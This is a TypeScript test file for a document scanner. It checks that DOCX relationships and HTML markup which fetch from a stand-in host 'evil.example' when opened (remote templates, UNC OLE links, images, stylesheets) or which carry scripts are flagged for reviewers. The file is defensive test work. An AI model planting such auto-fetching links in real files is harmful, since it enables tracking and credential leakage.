import { describe, expect, it } from 'vitest';
import { makeWord } from '../../test/fixtures/zip.ts';
import { reading } from '../../test/fixtures/reading.ts';
import { readDocx } from './docx.ts';
import { readHtml } from './html.ts';

const relation = (type: string, target: string): string =>
  `<Relationships><Relationship Id="1" Type="x/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const problemsOf = async (part: string, type: string, target: string): Promise<string> =>
  (
    await readDocx(
      makeWord('<w:p><w:r><w:t>正文</w:t></w:r></w:p>', { [part]: relation(type, target) }),
      reading(),
    )
  ).problems.join();
const inHtml = (html: string): string =>
  readHtml(new TextEncoder().encode(`<p>正文${html}`), reading()).problems.join();

describe('what a file fetches by itself when it is opened', () => {
  it.each([
    ['word/_rels/settings.xml.rels', 'attachedTemplate', 'http://evil.example/t.dotm'],
    ['word/_rels/document.xml.rels', 'image', 'https://evil.example/i.png'],
    ['word/_rels/document.xml.rels', 'oleObject', '\\\\evil.example\\share\\a.xlsx'],
    ['word/_rels/document.xml.rels', 'frame', 'file://evil.example/share/a.htm'],
    ['word/_rels/document.xml.rels', 'subDocument', 'file:////evil.example/a.docx'],
  ])('in %s as %s %s is named for the reviewers', async (part, type, target) => {
    const problems = await problemsOf(part, type, target);
    expect(problems).toContain('自动连接外部地址');
    expect(problems).toContain('evil.example');
  });

  it.each([
    ['hyperlink', 'https://www.example.gov.cn/'],
    ['attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'],
    ['externalLinkPath', '2026年预算.xlsx'],
  ])('is no link that waits for a click, and nothing on the own disk: %s %s', async (type, target) => {
    expect(await problemsOf('word/_rels/settings.xml.rels', type, target)).not.toContain('外部地址');
  });

  it.each([
    '<img src="http://evil.example/a.png">',
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<body background="https://evil.example/a.png">',
    '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
    '<p style="background: url(&quot;https://evil.example/a.png&quot;)">',
    '<style>@import "//evil.example/a.css";</style>',
    '<base href="https://evil.example/"><img src="a.png">',
    '<svg><image xlink:href="https://evil.example/a.png"></svg>',
  ])('is named in a web page: %s', (html) => {
    expect(inHtml(html)).toMatch(/自动连接外部地址.*evil\.example/);
  });

  it.each([
    '<script>alert(1)</script>',
    '<p onclick="go()">',
    '<iframe src="a.html"></iframe>',
    '<a href="javascript:go()">',
    '<meta http-equiv="Refresh" content="0; url=a.html">',
  ])('or runs is named in a web page: %s', (html) => {
    expect(inHtml(html)).toContain('含有脚本');
  });

  it.each([
    '<a href="https://www.example.gov.cn/">链接</a><img src="a.png">',
    '<base href="https://www.example.gov.cn/"><a href="a.html">链接</a><img src="data:image/png;base64,AA==">',
    '<p style="background: url(a.png)">',
    '<img srcset="data:image/png;base64,//8A 1x, b.png 2x">',
  ])('is nothing where there is nothing: %s', (html) => {
    expect(inHtml(html)).toBe('');
  });
});
